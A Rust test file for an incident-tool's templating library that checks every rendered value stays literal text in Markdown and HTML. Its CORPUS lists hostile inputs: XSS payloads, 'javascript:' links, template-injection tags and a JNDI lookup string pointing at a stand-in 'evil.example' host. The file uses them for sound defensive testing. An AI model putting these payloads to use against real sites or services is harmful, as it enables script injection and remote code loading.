//! Every value of every view, through every place of every template: the same text, and nothing but text.
//!
//! A view's texts are replaced, each by a word of its own and then by hostile ones. What a reader's parser makes of
//! the two texts must differ in those words alone.

use std::collections::{BTreeMap, BTreeSet};

use libtest_mimic::Trial;
use lifeboat::model::{Audience, Delivery, Direction, Event, LimitKind, Mode, Record};
use lifeboat::view::{self, Background, Chronicle, MessageContext};
use lifeboat::words::{Format, Library, html};
use pulldown_cmark::{Event as Markdown, Options, Parser, Tag, TagEnd};
use serde_json::Value;

use super::markup::Markup;
use super::shelf::{library, sources, vendors};
use super::story::{self, after};

pub fn trials() -> Vec<Trial> {
    trials![
        c5_every_value_is_literal_in_markdown_and_in_html,
        c5_a_value_that_is_not_escaped_is_noticed,
        c5_every_place_of_every_template_is_reached,
    ]
}

/// What hostile machines say: markup of every kind, tags of template languages, addresses, ends of things.
const CORPUS: &[&str] = &[
    "{{ 7 * 7 }}",
    "{% include \"../estate\" %}{% set x = 1 %}{# x #}",
    "{{ __pay(t=0,l=0,c=0,n=0,h=0) }}{{ x | safe }}",
    "{{< figure src=\"x\" >}}{{% x %}}{{ site.data }}",
    "${jndi:ldap://evil.example/a}<%= 1 %>#{1}",
    "[link](https://evil.example)",
    "[link](javascript:alert(1)) [a][b] [c]: https://evil.example",
    "![image](https://evil.example/x.png)",
    "<javascript:alert(1)> <https://evil.example> <a@evil.example>",
    "javascript:alert(1)",
    "https://evil.example/?a=1&b=2",
    "www.evil.example evil.example a@evil.example mailto:a@evil.example ftp://evil.example",
    "@everyone",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!-- x --> <![CDATA[ x ]]> <?php x ?> </p></td></table>",
    "\" onmouseover=\"alert(1)\" x='",
    "' onload='alert(1)",
    "&lt;b&gt; &#x1b; &#106;avascript: &colon; &amp;amp;",
    "**bold** __bold__ *it* _it_ ~~gone~~ ~sub~ ^sup^ `code` ``code``",
    "``` rust",
    "~~~",
    "| cell | cell |",
    "|---|---|",
    ":--",
    "# heading",
    "## heading ##",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "1) item",
    ". item",
    ") item",
    "- [ ] task",
    "[ ] task",
    "> quote",
    "> [!NOTE]",
    ": definition",
    "===",
    "---",
    "***",
    "+++",
    "    code",
    "\tcode",
    "$x$ $$y$$",
    "{#id .class}",
    "[^1] [^1]: note",
    "[[wiki]] [[wiki|x]]",
    "back\\slash \\*escaped\\* \\",
    "\\",
    "`",
    "*",
    "_",
    "[",
    "]",
    "](",
    "![",
    "<",
    ">",
    "&",
    "&amp",
    "#",
    "!",
    "line one\nline two\n\n# heading\r\n- item\u{2028}> quote",
    "trailing  ",
    "\u{1b}[2J\u{202e}\u{200b}",
    "ünïcödé 漢字 🎉",
];

/// Every message's context, postmortem and handoff, by the templates that they are for.
fn views() -> Vec<(&'static str, Value)> {
    let mut views = Vec::new();
    for records in [rich(story::held(Mode::Live)), rich(story::mended(Mode::Live)), bare()] {
        let chronicle = Chronicle::fold(&records);
        let blobs = ["blobs/a.json".to_owned()];
        let background = Background { plans: &[], blobs: &blobs };
        let postmortem = view::postmortem(&chronicle, &background, after(9_999));
        views.push(("postmortem", serde_json::to_value(&postmortem).unwrap()));
        views.push(("timeline", serde_json::to_value(&postmortem).unwrap()));
        let handoff = view::handoff(&chronicle, after(9_999));
        views.push(("handoff", serde_json::to_value(&handoff).unwrap()));
        for audience in [Audience::Customers, Audience::Team] {
            for next in [None, Some(after(12_000))] {
                let context =
                    MessageContext::new(&chronicle, audience, None, &vendors(), after(9_999), next);
                views.push(("status", serde_json::to_value(&context).unwrap()));
            }
        }
    }
    views
}

/// A story with everything in it that anybody may have written.
fn rich(mut records: Vec<Record>) -> Vec<Record> {
    let last = records.pop().unwrap();
    let lost = Delivery::Failed;
    let more = [
        Event::Noted { by: "somebody".into(), text: "a note".into() },
        Event::Asked { step: "hand-over".into(), question: "a question".into() },
        story::telling("say-it", "status-page", "en", "some words"),
        story::told("say-it", "status-page", "en", lost, "it is away"),
        Event::WrongCode {
            digest: story::DIGEST.into(),
            contact: "ben".into(),
            number: 7,
            by: "somebody".into(),
            tries: 2,
        },
        Event::BrokeGlass {
            digest: story::DIGEST.into(),
            by: "somebody".into(),
            direction: Direction::Do,
            reason: "a reason that is long enough".into(),
            expires: after(900),
            head: None,
        },
        Event::Overridden {
            digest: story::DIGEST.into(),
            limit: LimitKind::RootNs,
            step: "move-delegation".into(),
            because: "the root's servers".into(),
            reason: "a reason that is long enough".into(),
            by: "somebody".into(),
        },
    ];
    let prefix = records[0].clone();
    for event in more {
        let seq = records.len() as u64;
        records.push(Record { seq, at: last.at, event, ..prefix.clone() });
    }
    let seq = records.len() as u64;
    records.push(Record { seq, ..last });
    records
}

/// A story in which next to nothing is known.
fn bare() -> Vec<Record> {
    story::Story::declared(Mode::Live, "Something is wrong").end()
}

/// Replaces every free text of a view, each with its number; what branches are chosen by stays.
fn replaced(view: &Value, branches: bool, text: &mut impl FnMut(usize) -> String) -> Value {
    fn walk(
        value: &Value,
        key: &str,
        branches: bool,
        count: &mut usize,
        text: &mut impl FnMut(usize) -> String,
    ) -> Value {
        match value {
            Value::String(_) if branches && matches!(key, "layer" | "state" | "audience") => {
                value.clone()
            }
            Value::String(_) => {
                *count += 1;
                Value::String(text(*count))
            }
            Value::Array(items) => {
                items.iter().map(|item| walk(item, key, branches, count, text)).collect()
            }
            Value::Object(map) => map
                .iter()
                .map(|(key, item)| (key.clone(), walk(item, key, branches, count, text)))
                .collect(),
            other => other.clone(),
        }
    }
    walk(view, "", branches, &mut 0, text)
}

/// The word that stands for a value; no letter of it means anything to anybody.
fn word(number: usize) -> String {
    format!("Qv{number}vQ")
}

/// Puts the values in the place of their words.
fn spoken(text: &str, value: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("Qv") {
        let length = rest[start..].find("vQ").expect("a whole word") + 2;
        out.push_str(&rest[..start]);
        out.push_str(value);
        rest = &rest[start + length..];
    }
    out + rest
}

/// What a reader of Markdown with every extension sees: its structure, with the texts in it.
fn seen(markdown: &str) -> Vec<String> {
    let all = Options::all() - Options::ENABLE_SMART_PUNCTUATION;
    let mut seen: Vec<String> = Vec::new();
    let mut text = String::new();
    for event in Parser::new_ext(markdown, all) {
        match event {
            Markdown::Text(piece) => text.push_str(&piece),
            other => {
                seen.extend([std::mem::take(&mut text), shown(&other)]);
            }
        }
    }
    seen.push(text);
    seen.retain(|it| !it.is_empty());
    seen
}

fn shown(event: &Markdown<'_>) -> String {
    match event {
        // The address of a link that a template itself holds.
        Markdown::Start(Tag::Link { dest_url, .. }) => format!("<a {dest_url}>"),
        Markdown::End(TagEnd::Link) => "</a>".to_owned(),
        other => format!("{other:?}"),
    }
}

/// Renders every template that a view is for, in a format.
fn rendered(library: &Library, kind: &str, view: &Value, format: Format) -> Vec<String> {
    let names = library.names().filter(|name| name.starts_with(kind));
    let of_audience = |name: &&str| !name.contains(".team.") || !view["team"].is_null();
    let names = names.filter(of_audience);
    names.map(|name| library.render(name, view, format).unwrap_or_else(|e| panic!("{e}"))).collect()
}

/// Holds each text against the one with plain words; returns how many values stood in them.
fn compare(vector: &str, texts: &[(String, String)], read: impl Fn(&str) -> Vec<String>) -> usize {
    let literal = Format::Text.escape(vector);
    let mut values = 0;
    for (plain, hostile) in texts {
        let expected: Vec<String> = read(plain).iter().map(|it| spoken(it, &literal)).collect();
        let found = read(hostile);
        if let Some(at) = (0..found.len()).find(|at| found.get(*at) != expected.get(*at)) {
            panic!("{vector:?} became {:?} where {:?} was to stand", found[at], expected.get(at));
        }
        assert_eq!(found.len(), expected.len(), "{vector:?} swallowed what follows");
        values += plain.matches("Qv").count();
    }
    values
}

fn c5_every_value_is_literal_in_markdown_and_in_html() {
    let (library, views) = (library(), views());
    let (mut values, mut texts) = (0, 0);
    // The barest story has next to no values.
    for (number, (kind, view)) in views.iter().take(2 * views.len() / 3).enumerate() {
        let branches = number % 2 == 0;
        let plain = replaced(view, branches, &mut word);
        let markdown = rendered(&library, kind, &plain, Format::Markdown);
        let marked_up = rendered(&library, kind, &plain, Format::Html);
        for vector in CORPUS {
            let hostile = replaced(view, branches, &mut |_| (*vector).to_owned());
            let pairs = |plain: &[String], format| {
                let hostile = rendered(&library, kind, &hostile, format);
                plain.iter().cloned().zip(hostile).collect::<Vec<_>>()
            };
            let in_markdown = pairs(&markdown, Format::Markdown);
            values += compare(vector, &in_markdown, seen);
            compare(vector, &in_markdown, |text| Markup::read(&html(text)));
            compare(vector, &pairs(&marked_up, Format::Html), Markup::read);
            in_markdown.iter().for_each(|(_, text)| offers_no_tag(vector, text));
            texts += in_markdown.len();
        }
    }
    eprintln!(
        "C5: {} hostile texts in {values} values of {texts} texts, each read as Markdown and as HTML: 0 became markup",
        CORPUS.len()
    );
    assert!(values >= 10_000, "only {values} values");
}

/// Site generators look for their tags, and chat rooms for addresses and people, before or beside any Markdown.
fn offers_no_tag(vector: &str, text: &str) {
    for sign in ["{{", "{%", "{#", "{<", "${", "<%", "://", "www.", " @", "a@"] {
        let line = text.lines().find(|line| line.contains(sign));
        assert_eq!(line, None, "{vector:?}: `{sign}`");
    }
}

/// The control: the same comparison finds every sign that Markdown or HTML knows, when nothing escapes it.
fn c5_a_value_that_is_not_escaped_is_noticed() {
    let differs = |vector: &&&str, read: &dyn Fn(&str) -> Vec<String>| {
        let frame = |value: &str| {
            format!("{value}\n\n- {value}\n\n| {value} | b |\n|---|---|\n| {value} | d |\n")
        };
        let literal = Format::Text.escape(vector);
        let expected: Vec<String> =
            read(&frame("Qv1vQ")).iter().map(|it| spoken(it, &literal)).collect();
        read(&frame(vector)) != expected
    };
    let by_markdown = CORPUS.iter().filter(|it| differs(it, &seen)).count();
    let by_html = CORPUS.iter().filter(|it| differs(it, &|text| Markup::read(text))).count();
    eprintln!(
        "C5: unescaped, {by_markdown} of {} are noticed in Markdown, {by_html} in HTML",
        CORPUS.len()
    );
    assert!(by_markdown >= 35 && by_html >= 10, "the comparison is blind");
}

fn c5_every_place_of_every_template_is_reached() {
    let mut places = 0;
    let mut numbered = BTreeMap::new();
    for (name, text) in sources() {
        let mut pieces = text.split("{{");
        let mut marked = pieces.next().unwrap_or_default().to_owned();
        for piece in pieces {
            places += 1;
            marked.push_str(&format!("⟦{places}⟧{{{{{piece}"));
        }
        numbered.insert(name, marked);
    }
    let library = Library::new(numbered.clone()).unwrap_or_else(|error| panic!("{error}"));
    let mut reached = BTreeSet::new();
    for (kind, view) in views() {
        for text in rendered(&library, kind, &view, Format::Text) {
            let found = text.split('⟦').skip(1).filter_map(|rest| rest.split('⟧').next());
            reached.extend(found.map(|number| number.parse::<usize>().unwrap()));
        }
    }
    let missed: Vec<String> = (1..=places)
        .filter(|place| !reached.contains(place))
        .map(|place| {
            let mark = format!("⟦{place}⟧");
            let (name, text) = numbered.iter().find(|(_, text)| text.contains(&mark)).unwrap();
            let line = text.lines().find(|line| line.contains(&mark)).unwrap();
            format!("{name}: {line}")
        })
        .collect();
    eprintln!(
        "C5: {} of {places} places in {} templates are reached",
        reached.len(),
        numbered.len()
    );
    assert!(missed.is_empty(), "no view reaches:\n{}", missed.join("\n"));
}
